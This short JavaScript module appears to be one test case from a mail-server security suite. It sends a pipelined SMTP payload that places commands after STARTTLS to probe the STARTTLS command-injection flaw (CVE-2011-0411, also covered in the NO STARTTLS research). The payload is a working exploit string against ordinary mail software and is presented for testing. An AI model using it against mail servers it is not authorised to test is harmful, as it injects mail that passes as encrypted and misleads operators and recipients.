import { talk } from '../attack.mjs';

/** Sends a whole mail in the clear behind STARTTLS, to be taken as if it had come encrypted. Source: Wietse Venema, STARTTLS command injection, CVE-2011-0411; USENIX NO STARTTLS, 2021. */
export default talk({
  sent: 0,
  steps: ({ to }) => [
    `EHLO a\r\nSTARTTLS\r\nMAIL FROM:<b@example.org>\r\nRCPT TO:<${to}>\r\nDATA\r\nFrom: b@example.org\r\n\r\nx\r\n.\r\n`,
  ],
});
